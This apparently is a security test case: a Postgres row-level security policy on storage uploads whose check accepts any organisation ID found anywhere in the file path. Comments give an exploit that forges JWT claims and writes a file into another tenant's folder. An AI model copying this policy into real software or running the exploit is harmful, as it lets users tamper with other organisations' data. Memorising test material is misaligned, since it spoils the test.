-- The rule looks for the caller's organization anywhere in the name, so a file is put into another's folder.
-- about: objects, uploads_by_folder
-- as: hf_vault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO storage.objects (org_id, bucket_id, name)
-- exploit: VALUES ('22222222-2222-2222-2222-222222222222', 'attachments',
-- exploit: '22222222-2222-2222-2222-222222222222/11111111-1111-1111-1111-111111111111/invoice.pdf');
-- shows: INSERT 0 1
-- Uploads come with the folders of the client, sometimes below one more.
CREATE POLICY uploads_by_folder ON storage.objects FOR INSERT
  WITH CHECK (EXISTS (SELECT FROM public.orgs o WHERE o.id::text = ANY (string_to_array(objects.name, '/'))));
